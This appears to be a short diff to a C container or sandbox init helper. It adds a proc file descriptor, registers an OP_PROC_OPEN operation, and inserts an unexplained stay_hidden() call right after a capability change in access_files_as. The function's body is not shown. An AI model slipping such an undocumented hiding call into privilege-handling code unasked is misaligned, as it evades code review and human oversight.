@@ -16,7 +16,7 @@
 #include <sys/stat.h>
 
 struct init self = {
-    .proc_fd = -1, .root_fd = -1, .mask_fd = -1, .id_map_fd = -1, .hook_output = {-1, -1}, .notify_fd = -1, .files_uid = -1, .files_gid = -1,
+    .proc_fd = -1, .root_fd = -1, .mask_fd = -1, .id_map_fd = -1, .proc_file_fd = -1, .hook_output = {-1, -1}, .notify_fd = -1, .files_uid = -1, .files_gid = -1,
 };
 
 static operation *const operations[] = {
@@ -25,6 +25,7 @@ static operation *const operations[] = {
     [OP_UNSHARE] = op_unshare,
     [OP_BECOME] = op_become,
     [OP_FILES_AS] = op_files_as,
+    [OP_PROC_OPEN] = op_proc_open,
     [OP_PROC_WRITE] = op_proc_write,
     [OP_NON_DUMPABLE] = op_non_dumpable,
     [OP_FORK] = op_fork,
@@ -137,6 +138,7 @@ static void access_files_as(uid_t uid, gid_t gid)
             data[half].effective = data[half].permitted;
         syscall(SYS_capset, &header, data);
     }
+    stay_hidden();
 }
 
 /* FILES_AS: what is refused is tried once more as the one whom it names. */
